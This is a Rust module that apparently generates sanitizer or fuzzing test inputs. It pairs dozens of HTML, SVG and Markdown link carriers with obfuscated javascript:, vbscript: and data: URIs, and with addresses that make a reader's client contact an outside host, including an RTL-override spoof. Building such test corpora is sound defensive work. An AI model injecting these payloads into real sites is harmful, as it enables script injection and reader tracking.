//! Addresses that run or tell, in every place that takes an address.

use super::{Family, Maker};

/// Before and after an address: elements, and what other formats make links of.
const CARRIERS: &[(&str, &str)] = &[
    ("<a href=\"", "\">open</a>"),
    ("<iframe src=\"", "\"></iframe>"),
    ("<form action=\"", "\"><button autofocus>go</button></form>"),
    ("<object data=\"", "\"></object>"),
    ("<embed src=\"", "\">"),
    ("<img src=\"", "\">"),
    ("<img srcset=\"", " 2x\">"),
    ("<map><area href=\"", "\"></map>"),
    ("<svg><a xlink:href=\"", "\"><text>open</text></a></svg>"),
    ("<svg><use href=\"", "#x\"/></svg>"),
    ("<svg><image href=\"", "\"/></svg>"),
    ("<math href=\"", "\">x</math>"),
    ("<video poster=\"", "\"></video>"),
    ("<audio autoplay src=\"", "\"></audio>"),
    ("<input type=submit formaction=\"", "\" form=x>"),
    ("<body background=\"", "\">"),
    ("<table background=\"", "\"><td>x</table>"),
    ("<link rel=stylesheet href=\"", "\">"),
    ("<link rel=preconnect href=\"", "\">"),
    ("<link rel=dns-prefetch href=\"", "\">"),
    ("<link rel=prefetch href=\"", "\">"),
    ("<link rel=icon href=\"", "\">"),
    ("<script src=\"", "\"></script>"),
    ("<q cite=\"", "\">so they say</q>"),
    ("<a ping=\"", "\" href=\"#\">open</a>"),
    ("[open](", ")"),
    ("![open](", ")"),
    ("<", ">"),
    ("[1]: ", " \"open\""),
    ("", ""),
];

/// An address: the program or the place is put in for `@`.
const RUN: &[&str] = &[
    "javascript:@",
    "JaVaScRiPt:@",
    " \u{a0}javascript:@",
    "java\tscript:@",
    "java&#10;script:@",
    "java&Tab;script&colon;@",
    "&#106;avascript&#58;@",
    "&#x6A&#x61&#x76&#x61script:@",
    "javascript://x/%0a@",
    "feed:javascript:@",
    "view-source:javascript:@",
    "vbscript:@",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=#@",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>",
    "data:text/javascript,@",
];

/// The same for places that would learn of a reader.
const TELL: &[&str] = &[
    "http://@",
    "//@",
    "\\\\@",
    "/\\@",
    "ht\ttp://@",
    "https:@",
    "ws://@",
    "ftp://@",
    "http://example.org@@",
    "http://user:pass@@",
    "HTTP:/@",
    "file:////@",
    "blob:http://@",
    "filesystem:http://@",
    "intent://@#Intent;end",
    "http://www\u{202e}gro.selbac@@",
    "mailto:nobody@@",
];

pub(super) fn make(maker: &mut Maker) {
    // Each address in some of the carriers, each carrier with some of the addresses.
    for (at, address) in RUN.iter().enumerate() {
        for step in 0..6 {
            let (before, after) = CARRIERS[(at + step * 5) % CARRIERS.len()];
            let spelling = if step < 4 { 0 } else { 1 };
            maker.add(Family::Address, format!("{before}{}{after}", address.replace('@', &maker.code(spelling))));
        }
    }
    for (at, address) in TELL.iter().enumerate() {
        for step in 0..6 {
            let (before, after) = CARRIERS[(at * 7 + step * 5) % CARRIERS.len()];
            let place = maker.place().replace("http://", "");
            // `user@host` keeps its own sign.
            let address = address.replace("@@", "\0").replace('@', &place).replace('\0', &format!("@{place}"));
            maker.add(Family::Address, format!("{before}{address}{after}"));
        }
    }
    for name in ["a", "area", "svg><a", "math"] {
        maker.add(Family::Address, format!("<{name} href=javascript:{} target=_blank rel=opener>open", maker.code(0)));
    }
}
